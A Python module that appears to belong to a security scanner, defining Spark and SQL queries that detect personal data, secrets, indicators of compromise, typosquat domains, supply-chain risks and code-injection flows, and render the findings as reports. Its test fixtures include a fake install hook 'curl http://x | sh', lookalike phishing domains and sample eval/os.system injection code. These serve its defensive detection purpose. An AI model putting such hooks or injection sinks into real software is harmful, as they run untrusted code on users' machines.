"""Queries of detectors, indicators and their rollups over the given tables."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from siftstone.functions import names
from siftstone.functions.tables import BRANDS, EVENTS, INDICATORS, LOG, PERSONAL, SECRETS, SEVERITY, Rule
from siftstone.operators import code, detect, indicators, rollups, search, supply
from siftstone.plans import inputs
from siftstone.reports import rows as report_rows
from siftstone.session import ship

QUERIES: dict = {}
SQL: dict[str, str] = {}


def query(f):
    QUERIES[f.__name__] = f
    return f


def text(value: str | None) -> str:
    return "NULL" if value is None else "'" + value.replace("'", "''") + "'"


def hits_sql(files: str, rules: tuple[Rule, ...], first: bool = False) -> str:
    """(path, line, content, ord, rule, label, severity, cwe, col, value) of the matches; signs beyond ASCII count as letters."""
    parts = []
    for at, r in enumerate(rules):
        upto = "least(len(m), 1)" if first else "len(m)"
        parts.append(
            f"SELECT path, line, content, {at} AS ord, {text(r.name)} AS rule, {text(r.description)} AS label, {text(r.severity)} AS severity, {text(r.cwe)} AS cwe, "
            f"CAST(1 + list_sum(list_transform(g[1:i], lambda x: len(x))) + coalesce(list_sum(list_transform(m[1:i - 1], lambda x: len(x))), 0) AS INTEGER) AS col, m[i] AS value FROM ("
            f"SELECT path, line, content, g, m, unnest(range(1, {upto} + 1)) AS i FROM (SELECT path, line, content, string_split_regex(plain, {text(r.pattern)}) AS g, regexp_extract_all(plain, {text(r.pattern)}) AS m FROM l))"
        )
    lines = (
        f"l AS (SELECT path, CAST(line AS INTEGER) AS line, content, regexp_replace(content, '[^\\x00-\\x7F]', 'x', 'g') AS plain FROM ("
        f"SELECT path, unnest(range(1, len(p) + 1)) AS line, unnest(p) AS content FROM (SELECT path, string_split(regexp_replace(text, '\\n$', ''), chr(10)) AS p FROM ({files}))))"
    )
    return f"WITH {lines}, h AS ({' UNION ALL '.join(parts)})"


_REDACT = "CASE WHEN len({v}) <= 8 THEN repeat('•', greatest(len({v}), 1)) ELSE concat(left({v}, 4), repeat('•', least(len({v}) - 8, 12)), right({v}, 4)) END"
_LUHN = """list_sum(list_transform(range(1, len(d) + 1), lambda i: CASE WHEN (len(d) - i) % 2 = 0 THEN CAST(d[i] AS INTEGER)
    ELSE 2 * CAST(d[i] AS INTEGER) - CASE WHEN CAST(d[i] AS INTEGER) > 4 THEN 9 ELSE 0 END END)) % 10 = 0"""
_DIGITS = "regexp_replace(value, '[^0-9]', '', 'g')"
#: Personal findings with their snippets. No IBAN or social security number occurs in the tables beyond those the patterns give.
_PII = f"""{hits_sql(inputs.FILES, PERSONAL)},
    k AS (SELECT *, {_DIGITS} AS d FROM h),
    p AS (SELECT path, line, col, rule, severity, cwe, concat(label, ': ', CASE WHEN regexp_matches(value, '^[0-9 -]+$') AND len(d) >= 13 THEN concat(repeat('•', 12), right(d, 4)) ELSE {_REDACT.format(v="value")} END) AS snippet
        FROM k WHERE CASE rule WHEN 'pii-credit-card' THEN len(d) BETWEEN 13 AND 19 AND {_LUHN}
            WHEN 'pii-ssn' THEN left(value, 3) NOT IN ('000', '666') AND left(value, 1) <> '9' AND substr(value, 5, 2) <> '00' AND right(value, 4) <> '0000'
            WHEN 'pii-iban' THEN len(value) BETWEEN 15 AND 34 AND list_reduce(list_transform(string_split(concat(substr(value, 5), left(value, 4)), ''), lambda c: CASE WHEN c BETWEEN '0' AND '9' THEN ascii(c) - 48 ELSE ascii(c) - 55 END),
                lambda a, b: (a * CASE WHEN b >= 10 THEN 100 ELSE 10 END + b) % 97, 0) = 1 ELSE true END)"""
_WEIGHT = "CASE severity " + " ".join(f"WHEN '{k}' THEN {v}" for k, v in SEVERITY.items()) + " END"
_DIR = "CASE WHEN NOT contains(path, '/') THEN '.' WHEN regexp_extract(path, '^(.*)/[^/]*$', 1) = '' THEN '/' ELSE regexp_extract(path, '^(.*)/[^/]*$', 1) END"


def _personal(spark: SparkSession, sf_dir: str, places: bool = True) -> DataFrame:
    return detect.personal(inputs.files(spark, sf_dir), places=places)


@query
def pii_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _personal(spark, sf_dir).select("rule", "path", "line", "col", "snippet", "severity", "cwe")


SQL["pii_findings"] = f"{_PII} SELECT rule, path, line, col, snippet, severity, cwe FROM p"


@query
def pii_by_rule(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _personal(spark, sf_dir, places=False).groupBy("rule").agg(F.count("*").alias("n"), F.countDistinct("path").alias("files"))


SQL["pii_by_rule"] = f"{_PII} SELECT rule, count(*) AS n, count(DISTINCT path) AS files FROM p GROUP BY rule"


@query
def secret_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Every match of the built-in secret rules, masked in its line."""
    return detect.secrets(inputs.secret_files(spark, sf_dir)).select("rule", "path", "line", "col", "snippet", "severity", "cwe")


_SECRET = f"""{hits_sql(inputs.SECRET_FILES, SECRETS)},
    w AS (SELECT *, greatest(col - 1 - 80, 0) AS low, least(col - 1 + len(value) + 80, len(content)) AS high FROM h),
    s AS (SELECT rule, path, line, col, severity, cwe, trim(concat(CASE WHEN low > 0 THEN '…' ELSE '' END, substr(content, low + 1, col - 1 - low), {_REDACT.format(v="value")},
        substr(content, col + len(value), high - (col - 1 + len(value))), CASE WHEN high < len(content) THEN '…' ELSE '' END)) AS snippet FROM w)"""
SQL["secret_findings"] = f"{_SECRET} SELECT rule, path, line, col, snippet, severity, cwe FROM s"


@query
def secret_rule_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Files and findings by rule."""
    return detect.secrets(inputs.secret_files(spark, sf_dir)).groupBy("rule", "severity", "cwe").agg(F.count("*").alias("n"), F.countDistinct("path").alias("files"))


SQL["secret_rule_files"] = f"{_SECRET} SELECT rule, severity, cwe, count(*) AS n, count(DISTINCT path) AS files FROM s GROUP BY ALL"


@query
def log_auth_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return detect.log_events(inputs.log_files(spark, sf_dir)).select("rule", "path", "line", "col", "snippet", "severity", "cwe")


_LOG = hits_sql(inputs.LOG_FILES, LOG, first=True)
SQL["log_auth_events"] = f"{_LOG} SELECT rule, path, line, col, content AS snippet, severity, cwe FROM h"


@query
def cim_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Log findings as normalised events."""
    return rollups.events(detect.log_events(inputs.log_files(spark, sf_dir)))


_EVENT = lambda at: "CASE " + " ".join(f"WHEN {'starts_with(rule, ' + text(e[0][:-1]) + ')' if e[0].endswith('*') else 'rule = ' + text(e[0])} THEN '{e[at]}'" for e in EVENTS) + f" ELSE '{('', 'detection', 'detected')[at]}' END"
SQL["cim_events"] = f"{_LOG} SELECT {_EVENT(1)} AS category, {_EVENT(2)} AS action, rule AS signature, coalesce(severity, 'info') AS severity, regexp_extract(content, '\\b(?:\\d{{1,3}}\\.){{3}}\\d{{1,3}}\\b') AS src FROM h"


@query
def cim_summary(spark: SparkSession, sf_dir: str) -> DataFrame:
    found = detect.log_events(inputs.log_files(spark, sf_dir), places=False).unionByName(_personal(spark, sf_dir, places=False))
    return rollups.event_counts(rollups.events(found))


SQL["cim_summary"] = f"SELECT category, count(*) AS n FROM (SELECT {_EVENT(1)} AS category FROM ({_LOG} SELECT rule FROM h UNION ALL ({_PII} SELECT rule FROM p))) GROUP BY category"


def _indicators(spark: SparkSession, sf_dir: str) -> DataFrame:
    return indicators.indicators(inputs.files(spark, sf_dir))


_PLAIN = "regexp_replace(text, '[^\\x00-\\x7F]', 'x', 'g')"
_OCTETS = "list_bool_and(list_transform(string_split({x}, '.'), lambda p: CAST(p AS INTEGER) <= 255))"


def _listed(kind: str) -> str:
    found = f"regexp_extract_all({_PLAIN if kind != 'urls' else 'text'}, {text(INDICATORS[kind])})"
    if kind == "ips":
        found = f"list_filter({found}, lambda x: {_OCTETS.format(x='x')})"
    if kind in ("emails", "hashes", "domains"):
        found = f"list_transform({found}, lambda x: lower(x))"
    return f"list_sort(list_distinct({found}))"


@query
def indicators_per_doc(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Addresses and digests of each document, one string per kind. (Names with letters beyond ASCII are left out.)"""
    found = _indicators(spark, sf_dir)
    return found.select("path", *[F.array_join(c, ",").alias(c) for c in ("emails", "ips", "hashes")]).where("emails <> '' or ips <> '' or hashes <> ''")


SQL["indicators_per_doc"] = f"SELECT * FROM (SELECT path, {', '.join(f'array_to_string({_listed(k)}, chr(44)) AS {k}' for k in ('emails', 'ips', 'hashes'))} FROM ({inputs.FILES})) WHERE emails <> '' OR ips <> '' OR hashes <> ''"


@query
def indicator_counts(spark: SparkSession, sf_dir: str) -> DataFrame:
    found = _indicators(spark, sf_dir)
    kinds = F.explode(F.array(*[F.struct(F.lit(k).alias("kind"), F.size(k).alias("n")) for k in ("emails", "ips", "hashes", "urls")])).alias("x")
    return found.select("path", kinds).groupBy("x.kind").agg(F.sum("x.n").alias("n"), F.count_if(F.col("x.n") > 0).alias("files"))


SQL["indicator_counts"] = " UNION ALL ".join(f"SELECT '{k}' AS kind, CAST(coalesce(sum(n), 0) AS BIGINT) AS n, count(*) FILTER (n > 0) AS files FROM (SELECT len({_listed(k)}) AS n FROM ({inputs.FILES}))" for k in ("emails", "ips", "hashes", "urls"))


def _iocs(rows: DataFrame) -> DataFrame:
    """Rules (rule_ord, name, pattern) as a table of indicators."""
    return indicators.ioc_table(rows.withColumn("severity", F.lit(None).cast("string")).withColumn("cwe", F.lit(None).cast("string")))


@query
def hash_ioc_matches(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Files whose MD5 is listed; every seventh document's digest is on the list, in capitals."""
    docs = inputs.table(spark, sf_dir, "documents").where("text is not null and doc_id % 7 = 0")
    rules = docs.select(F.col("doc_id").alias("rule_ord"), F.concat(F.lit("bad-"), F.col("doc_id")).alias("name"), F.concat(F.lit("md5:"), F.upper(F.md5(F.col("text").cast("binary")))).alias("pattern"))
    return indicators.hash_iocs(inputs.files(spark, sf_dir), _iocs(rules)).select("rule", "path", "line", "col", "snippet", "severity", "cwe")


SQL["hash_ioc_matches"] = f"""WITH i AS (SELECT md5(text) AS v, max(doc_id) AS id FROM documents WHERE text IS NOT NULL AND doc_id % 7 = 0 GROUP BY 1)
    SELECT concat('bad-', id) AS rule, path, 1 AS line, 1 AS col, concat('file Md5 digest matches IOC "bad-', id, '"') AS snippet, 'critical' AS severity, 'CWE-506' AS cwe FROM ({inputs.FILES}) f JOIN i ON md5(f.text) = i.v"""


def _page_hosts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """pages as indicators: the host of each page's address under a made-up subdomain."""
    none = F.array().cast("array<string>")
    host = names.host_of(F.col("url"))
    return inputs.table(spark, sf_dir, "pages").select(F.concat(F.lit("/web/"), F.col("page_id")).alias("path"), F.array(F.concat(F.lit("www."), host)).alias("domains"), none.alias("ips"), F.array("url").alias("urls"), none.alias("emails"))


@query
def domain_ioc_matches(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Listed domains among pages' hosts, by name or nearest listed parent; hosts of every fifth page are listed, and all of example.net."""
    hosts = inputs.table(spark, sf_dir, "pages").where("page_id % 5 = 0").select(names.host_of(F.col("url")).alias("host")).distinct()
    rules = hosts.select(F.lit(1).alias("rule_ord"), F.concat(F.lit("host "), F.col("host")).alias("name"), F.concat(F.lit("domain:"), F.col("host")).alias("pattern"))
    rules = rules.union(spark.createDataFrame([(2, "whole net", "domain:Example.net")], rules.schema))
    return indicators.network_iocs(_page_hosts(spark, sf_dir), _iocs(rules)).select("rule", "path", "line", "snippet", "severity")


_HOST = "lower(regexp_extract(url, '^[a-z]+://([^/:?#]+)', 1))"
SQL["domain_ioc_matches"] = f"""WITH p AS (SELECT concat('/web/', page_id) AS path, concat('www.', {_HOST}) AS d, page_id, {_HOST} AS h FROM pages),
    i AS (SELECT DISTINCT h AS v, concat('host ', h) AS name FROM p WHERE page_id % 5 = 0 UNION ALL SELECT 'example.net', 'whole net' WHERE 'example.net' NOT IN (SELECT h FROM p WHERE page_id % 5 = 0)),
    c AS (SELECT path, d, k, array_to_string(l[k:], '.') AS v FROM (SELECT path, d, string_split(d, '.') AS l, unnest(range(1, len(string_split(d, '.')) + 1)) AS k FROM p)),
    n AS (SELECT c.path, c.d, arg_min(i.name, c.k) AS rule FROM c JOIN i USING (v) GROUP BY c.path, c.d)
    SELECT rule, path, 0 AS line, concat('known-bad domain: ', d) AS snippet, 'critical' AS severity FROM n"""


@query
def breach_emails(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Addresses of documents that are on a list, half in plain and half as SHA-1 (every third distinct address isn't listed)."""
    found = _indicators(spark, sf_dir)
    mails = found.select(F.explode("emails").alias("e")).distinct().withColumn("k", F.length("e") % 3).where("k < 2")
    rules = mails.select(F.lit(0).alias("rule_ord"), F.lit("list").alias("name"), F.concat(F.lit("breach-email:"), F.when(F.col("k") == 0, F.col("e")).otherwise(F.sha1(F.col("e").cast("binary")))).alias("pattern"))
    return indicators.breached(found, _iocs(rules)).select("rule", "path", "snippet", "severity", "cwe")


SQL["breach_emails"] = f"SELECT 'breach-email' AS rule, path, concat('email in breach corpus: ', e) AS snippet, 'high' AS severity, 'CWE-359' AS cwe FROM (SELECT path, unnest({_listed('emails')}) AS e FROM ({inputs.FILES})) WHERE len(e) % 3 < 2"

_NAMES = ("paypa1.com", "g00gle.com", "paypal.secure-login.com", "login.paypal.com", "githib.com", "gihtub.com", "arnazon.net", "example.org", "apple.com", "chase.evil.io", "chess.com", "outl00k.net", "vvellsfargo.com", "amazon")


@query
def typosquat_domains(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Made-up domains and the second-level names of pages' hosts, held against the brands."""
    fixed = spark.createDataFrame([(f"/fixed/{d}", [d]) for d in _NAMES], "path string, domains array<string>")
    hosts = _page_hosts(spark, sf_dir).select("path", "domains")
    return indicators.typosquat_domains(fixed.union(hosts)).select("rule", "path", "snippet", "severity", "cwe")


_FOLD = "translate(replace(replace({x}, 'rn', 'm'), 'vv', 'w'), '0134579', 'oleastg')"
SQL["typosquat_domains"] = f"""WITH b AS (SELECT * FROM (VALUES {", ".join(f"({i}, '{b}')" for i, b in enumerate(BRANDS))}) t(ord, brand)),
    d AS (SELECT concat('/fixed/', d) AS path, d FROM (VALUES {", ".join(f"('{d}')" for d in _NAMES)}) t(d) UNION ALL SELECT concat('/web/', page_id), concat('www.', {_HOST}) FROM pages),
    l AS (SELECT path, d, string_split(d, '.') AS l FROM d WHERE contains(d, '.')),
    j AS (SELECT path, d, ord, brand, CASE WHEN l[-2] = brand THEN '' WHEN {_FOLD.format(x="l[-2]")} = brand OR damerau_levenshtein(l[-2], brand) = 1 THEN 'typosquat-domain'
        WHEN list_contains(l[:-3], brand) THEN 'brand-subdomain' END AS rule FROM l, b),
    f AS (SELECT path, d, arg_min(rule, ord) AS rule, arg_min(brand, ord) AS brand FROM j WHERE rule IS NOT NULL GROUP BY path, d)
    SELECT rule, path, CASE rule WHEN 'typosquat-domain' THEN concat('domain "', d, '" mimics brand "', brand, '"') ELSE concat('brand "', brand, '" used as a subdomain in "', d, '"') END AS snippet, 'high' AS severity, 'CWE-1007' AS cwe FROM f WHERE rule <> ''"""

_MANIFESTS = (
    ("/app/package.json", '{\n"dependencies": {"flatmap-stream": "1", "lodahs": "2", "express": "3"},\n"scripts": {"postinstall": "curl http://x | sh", "install": "node setup.js"}}'),
    ("/ok/package.json", '{"dependencies": {"preact": "1", "nuxt": "2", "nest": "3"}}'),
    ("/py/requirements.txt", "# list\nreqeusts==9.9.9\nnumpy>=1\n-r other.txt\ncolourama\n"),
    ("/rs/Cargo.toml", '[dependencies]\ntokoi = "1"\nserde = { git = "http://host/serde" }\n'),
    ("/bad/package.json", "not json"),
    ("/pack.zip!requirements-dev.txt", "p1llow\n--index-url http://pypi\n"),
)


@query
def supply_chain_manifest(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings of made-up manifests."""
    ship(spark)
    rows = spark.createDataFrame(list(_MANIFESTS), "path string, text string")
    return supply.supply_chain(rows).select("rule", "path", "line", "snippet", "severity", "cwe")


_SUPPLY = (
    ("supply-chain-known-malware", "/app/package.json", 2, 'dependency "flatmap-stream" is a known malicious package', "critical", "CWE-506"),
    ("supply-chain-typosquat", "/app/package.json", 2, 'dependency "lodahs" is one edit away from "lodash" (possible typosquat)', "high", "CWE-829"),
    ("supply-chain-insecure-source", "/app/package.json", 3, "dependency source fetched over cleartext http", "medium", "CWE-829"),
    ("supply-chain-install-hook", "/app/package.json", 3, 'install hook runs code on install: "node setup.js"', "medium", "CWE-94"),
    ("supply-chain-install-hook", "/app/package.json", 3, 'postinstall hook downloads or evals code: "curl http://x | sh"', "critical", "CWE-94"),
    ("supply-chain-typosquat", "/py/requirements.txt", 2, 'dependency "reqeusts" is one edit away from "requests" (possible typosquat)', "high", "CWE-829"),
    ("supply-chain-known-malware", "/py/requirements.txt", 5, 'dependency "colourama" is a known malicious package', "critical", "CWE-506"),
    ("supply-chain-typosquat", "/rs/Cargo.toml", 2, 'dependency "tokoi" is one edit away from "tokio" (possible typosquat)', "high", "CWE-829"),
    ("supply-chain-insecure-source", "/rs/Cargo.toml", 3, "dependency source fetched over cleartext http", "medium", "CWE-829"),
    ("supply-chain-typosquat", "/pack.zip!requirements-dev.txt", 1, 'dependency "p1llow" is one edit away from "pillow" (possible typosquat)', "high", "CWE-829"),
    ("supply-chain-insecure-source", "/pack.zip!requirements-dev.txt", 2, "dependency source fetched over cleartext http", "medium", "CWE-829"),
)
SQL["supply_chain_manifest"] = "SELECT * FROM (VALUES " + ", ".join("(" + ", ".join(str(v) if isinstance(v, int) else text(v) for v in r) + ")" for r in _SUPPLY) + ") t(rule, path, line, snippet, severity, cwe)"


def _report(spark: SparkSession, sf_dir: str, kind: str) -> DataFrame:
    return report_rows.rendered(_personal(spark, sf_dir), kind)


@query
def report_text(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings as lines of a text report."""
    return _report(spark, sf_dir, "text")


SQL["report_text"] = f"{_PII} SELECT concat('[', rule, '] ', severity, ' ', path, ':', line, ':', col, ' ', snippet) AS line FROM p"


@query
def report_json(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings as JSON objects."""
    return _report(spark, sf_dir, "json")


SQL["report_json"] = f"{_PII} SELECT CAST(json_object('rule', rule, 'path', path, 'line', line, 'col', col, 'snippet', snippet, 'severity', severity, 'cwe', cwe) AS VARCHAR) AS line FROM p"


@query
def report_markdown(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings as rows of a Markdown table."""
    return _report(spark, sf_dir, "markdown")


SQL["report_markdown"] = f"{_PII} SELECT concat('| ', severity, ' | ', rule, ' | ', path, ':', line, ':', col, ' | ', cwe, ' | ', replace(replace(snippet, '|', '\\|'), '`', '\\`'), ' |') AS line FROM p"


@query
def report_junit(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings as failed JUnit cases."""
    return _report(spark, sf_dir, "junit")


_XML = """replace(replace(replace(replace(replace({x}, '&', '&amp;'), '<', '&lt;'), '>', '&gt;'), '"', '&quot;'), '''', '&apos;')"""
SQL["report_junit"] = f"""{_PII} SELECT concat('<testcase name="', {_XML.format(x="concat(rule, ' at ', path, ':', line, ':', col)")}, '" classname="', {_XML.format(x="path")},
    '"><failure message="[', rule, '] ', severity, ' (', cwe, ')" type="', severity, '">', {_XML.format(x="snippet")}, '</failure></testcase>') AS line FROM p"""


@query
def report_sarif(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings as SARIF results."""
    return _report(spark, sf_dir, "sarif")


SQL["report_sarif"] = f"""{_PII} SELECT CAST(json_object('ruleId', rule, 'level', CASE severity WHEN 'critical' THEN 'error' WHEN 'high' THEN 'error' WHEN 'medium' THEN 'warning' ELSE 'note' END, 'message', json_object('text', snippet),
    'locations', json_array(json_object('physicalLocation', json_object('artifactLocation', json_object('uri', path), 'region', json_object('startLine', line, 'startColumn', col, 'snippet', json_object('text', snippet)))))) AS VARCHAR) AS line FROM p"""


@query
def severity_rollup(spark: SparkSession, sf_dir: str) -> DataFrame:
    return rollups.severity_counts(_personal(spark, sf_dir, places=False))


SQL["severity_rollup"] = f"{_PII} SELECT severity, count(*) AS n FROM p GROUP BY severity"


@query
def risk_score(spark: SparkSession, sf_dir: str) -> DataFrame:
    return rollups.risk_score(_personal(spark, sf_dir, places=False))


SQL["risk_score"] = f"{_PII} SELECT CAST(coalesce(sum({_WEIGHT}), 0) AS BIGINT) AS risk FROM p"


@query
def hotspots(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The ten directories with the most findings (a top-k report)."""
    rows = rollups.hotspots(_personal(spark, sf_dir, places=False))
    return rows.withColumn("share", F.round("share", 6))


SQL["hotspots"] = f"""{_PII}, g AS (SELECT {_DIR} AS directory, count(*) AS findings, CAST(sum({_WEIGHT}) AS BIGINT) AS risk FROM p GROUP BY 1)
    SELECT directory, findings, risk, round(findings / sum(findings) OVER (), 6) AS share FROM g ORDER BY findings DESC, risk DESC, directory LIMIT 10"""


@query
def search_severity(spark: SparkSession, sf_dir: str) -> DataFrame:
    return search.matching(_personal(spark, sf_dir), "severity=high").select("rule", "path", "line", "col", "snippet")


SQL["search_severity"] = f"{_PII} SELECT rule, path, line, col, snippet FROM p WHERE severity = 'high'"


@query
def search_free_text(spark: SparkSession, sf_dir: str) -> DataFrame:
    return search.matching(_personal(spark, sf_dir), "phone").select("rule", "path", "line", "col", "snippet")


SQL["search_free_text"] = f"{_PII} SELECT rule, path, line, col, snippet FROM p WHERE contains(rule, 'phone')"


@query
def severity_gate(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings of medium severity or more under one directory."""
    return search.breaching(_personal(spark, sf_dir), "medium", "/corpus/src1").select("rule", "path", "severity")


SQL["severity_gate"] = f"{_PII} SELECT rule, path, severity FROM p WHERE {_WEIGHT} >= 2 AND starts_with(path, '/corpus/src1/')"


@query
def stats_total(spark: SparkSession, sf_dir: str) -> DataFrame:
    return rollups.by_severity_total(_personal(spark, sf_dir, places=False))


SQL["stats_total"] = f"{_PII} SELECT count(*) AS total, " + ", ".join(f"count(*) FILTER (severity = '{s}') AS {s}" for s in ("critical", "high", "medium", "low", "info")) + " FROM p"


@query
def web_links(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Links of every page, resolved, with the host they lead to."""
    from siftstone.sources.web import links

    return links(inputs.table(spark, sf_dir, "pages"), "url", "html").select("url", "link", names.host_of(F.col("link")).alias("host"))


SQL["web_links"] = """WITH a AS (SELECT url, trim(unnest(regexp_extract_all(html, '(?i)(?:href|src)\\s*=\\s*["'']([^"'']+)["'']', 1))) AS r FROM pages),
    l AS (SELECT DISTINCT url, CASE WHEN r = '' OR starts_with(r, '#') THEN NULL WHEN regexp_matches(r, '^https?://') THEN r
        WHEN contains(r, ':') AND NOT contains(split_part(r, ':', 1), '/') AND NOT starts_with(r, '//') THEN NULL
        WHEN starts_with(r, '/') THEN concat(regexp_extract(url, '^[a-z]+://[^/?#]*'), '/', substr(r, 2)) ELSE concat(regexp_replace(url, '/[^/]*$', ''), '/', r) END AS link FROM a)
    SELECT url, link, lower(regexp_extract(link, '^https?://([^/:?#]+)', 1)) AS host FROM l WHERE link IS NOT NULL"""


@query
def taint_flows(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Untrusted data reaching sinks in made-up sources (rows only: the parser is Python)."""
    from siftstone.sources.syntax import syntax

    ship(spark)
    rows = [("/a.py", "a = request.args.get('x')\nb = a\neval(b)\neval('1')\nos.system(input())\n"), ("/b.js", "const q = req.query.id;\nlet z = q + 1;\nchild_process.exec(z);\nfoo(z);\n")]
    return code.taint_flows(syntax(spark.createDataFrame(rows, "path string, text string"))).select("rule", "path", "line", "snippet", "severity")


SQL["taint_flows"] = "SELECT * FROM (VALUES ('taint-code-injection', '/a.py', 3, 'tainted variable reaches eval (code evaluation)', 'critical'), ('taint-command-injection', '/a.py', 5, 'untrusted input passed directly os.system (shell command execution)', 'critical'), ('taint-command-injection', '/b.js', 3, 'tainted variable reaches child_process.exec (child_process shell execution)', 'critical')) t(rule, path, line, snippet, severity)"


@query
def dangerous_calls(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Calls of sinks in made-up sources."""
    from siftstone.sources.syntax import syntax

    ship(spark)
    rows = [("/a.py", "eval(data)\nos.system('ls')\n# exec(x)\ns = 'eval(y)'\nsubprocess.Popen(x)\n"), ("/b.go", 'package m\nfunc f() {\n  exec.Command("sh")\n  // eval(x)\n}\n')]
    return code.dangerous_calls(syntax(spark.createDataFrame(rows, "path string, text string"))).select("rule", "path", "line", "snippet", "severity")


SQL["dangerous_calls"] = "SELECT * FROM (VALUES ('ast-eval', '/a.py', 1, 'call to eval (code evaluation)', 'high'), ('ast-os-command', '/a.py', 2, 'call to os.system (shell command execution)', 'high'), ('ast-subprocess', '/a.py', 5, 'call to subprocess.Popen (subprocess execution (audit for shell=True / untrusted input))', 'medium'), ('ast-exec-command', '/b.go', 3, 'call to exec.Command (os/exec command)', 'high')) t(rule, path, line, snippet, severity)"
